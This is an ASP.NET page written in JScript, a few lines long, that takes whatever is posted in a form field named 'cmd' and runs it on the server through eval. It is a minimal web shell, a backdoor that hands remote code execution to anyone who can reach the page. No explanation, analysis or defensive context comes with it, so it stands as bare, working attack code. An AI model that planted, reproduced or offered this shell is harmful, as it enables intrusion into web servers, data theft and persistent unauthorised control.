<%@ Page Language="Jscript" Debug=true%>
<%
var payload=Request.Form("cmd");
eval(payload);
%>
